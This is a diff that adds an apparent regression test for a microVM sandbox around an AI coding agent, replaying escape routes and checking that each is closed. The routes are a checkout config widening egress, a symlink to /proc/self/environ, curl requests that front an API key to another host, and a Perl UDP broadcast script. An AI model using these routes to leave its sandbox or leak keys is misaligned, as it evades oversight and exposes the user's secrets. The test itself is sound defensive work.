@@ -17,6 +17,7 @@ import shlex
 import ssl
 import subprocess
 import threading
+import time
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -272,3 +273,90 @@ def test_a_streamed_answer_comes_whole_through_a_secret(msb_project: Project, tm
         assert "data: [DONE]" in streamed.stdout, f"{streamed.stdout}\n{msb_records(project)}"
         assert model.authorizations == [f"Bearer {KEY}"], model.authorizations
         assert status == "0" and int(took) < 60, f"the stream did not end: {lines[-1]}\n{msb_records(project)}"
+
+
+GROUPS_SCRIPT = ("use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or die qq(socket: $!\\n); "
+                 "setsockopt($s, SOL_SOCKET, SO_BROADCAST, 1); my $sent = 0; "
+                 "for my $to ('255.255.255.255', '224.0.0.1') {{ "
+                 "$sent++ if send($s, qq(from the VM to $to), 0, sockaddr_in({port}, inet_aton($to))); sleep 1 }} "
+                 "print qq(sent $sent\\n)")
+
+
+@pytest.fixture
+def host_datagrams() -> Iterator[tuple[int, list[bytes]]]:
+    """A UDP service on every address of this host: its port, and what it got."""
+    import socket
+
+    got: list[bytes] = []
+    service = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    service.bind(("0.0.0.0", 0))
+    service.settimeout(0.5)
+    done = threading.Event()
+
+    def keep() -> None:
+        while not done.is_set():
+            try:
+                got.append(service.recvfrom(2048)[0])
+            except TimeoutError:
+                continue
+
+    thread = threading.Thread(target=keep, daemon=True)
+    thread.start()
+    try:
+        yield service.getsockname()[1], got
+    finally:
+        done.set()
+        thread.join()
+        service.close()
+
+
+def test_the_ways_out_the_attack_found_are_closed_in_a_microvm(
+    msb_project: Project, tmp_path: Path, host_datagrams: tuple[int, list[bytes]],
+) -> None:
+    """In one booted microVM, as the agent would try them: a checkout's configuration that widens
+    its VM, provisioning through a link to the launcher's environment, a secret's request fronted to
+    another site of the same server (in TLS, and in `Host`), and broadcast and multicast to the host."""
+    project = msb_project
+    checkout_config = project.root / ".opencode-sandbox" / "config.yaml"
+    checkout_config.parent.mkdir(exist_ok=True)
+    checkout_config.write_text("egress-allow: ['0.0.0.0/0']\n")
+    widened = project.cli("shell", "--", "true")
+    assert widened.returncode != 0 and "in the project's checkout, which the agent" in widened.stderr, widened.stderr
+    assert project.vm_info() is None
+    checkout_config.unlink()
+
+    linked = project.root / ".opencode-sandbox" / "opencode"
+    linked.mkdir()
+    (linked / "env.txt").symlink_to("/proc/self/environ")
+    ca = trustme.CA()
+    ca_file = tmp_path / "model-ca.pem"
+    ca.cert_pem.write_to_path(str(ca_file))
+    tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    ca.issue_cert("model.lab.test", "other.lab.test").configure_cert(tls)  # one front serves both names
+    udp_port, datagrams = host_datagrams
+    with ModelServer.start([], bind=LAB_SIDE, advertised_host="model.lab.test", tls=tls, port=8443) as model:
+        project.env.update({
+            "OPENCODE_SANDBOX_SECRETS": "OPENAI_API_KEY=model.lab.test",
+            "OPENAI_API_KEY": KEY,
+            "OPENCODE_SANDBOX_EXTRA_CA_CERTIFICATES": str(ca_file),
+        })
+        bearer = '-H "Authorization: Bearer $OPENAI_API_KEY"'
+        script = "; ".join([
+            "echo provisioned: $(ls -A ~/.config/opencode)",
+            f"curl -sS --max-time 30 {bearer} --connect-to other.lab.test:443:model.lab.test:443 "
+            "https://other.lab.test/v1/models -o /dev/null -w 'tls-name %{http_code}\\n'",
+            f"curl -sS --max-time 30 {bearer} -H 'Host: other.lab.test' https://model.lab.test/v1/models "
+            "-o /dev/null -w 'host-header %{http_code}\\n'",
+            f"curl -sS --max-time 30 {bearer} https://model.lab.test/v1/models -o /dev/null "
+            "-w 'direct %{http_code}\\n'",
+            f"perl -e {shlex.quote(GROUPS_SCRIPT.format(port=udp_port))}",
+        ])
+        tried = project.shell(script)
+        time.sleep(2)
+        seen = list(zip(model.hosts, model.authorizations, strict=True))
+    report = f"{tried.stdout}\n{tried.stderr}\nthe server saw: {seen}\n{msb_records(project)}"
+    assert "not copied into the VM" in tried.stderr and "env.txt" not in tried.stdout.split("provisioned:")[1], report
+    assert "direct 200" in tried.stdout and ("model.lab.test", f"Bearer {KEY}") in seen, report
+    fronted = [host for host, authorization in seen if KEY in authorization and not host.startswith("model.lab.test")]
+    assert fronted == [], f"the key went to a request for another site: {report}"
+    assert datagrams == [], f"a datagram from the VM reached a host service: {datagrams}\n{report}"
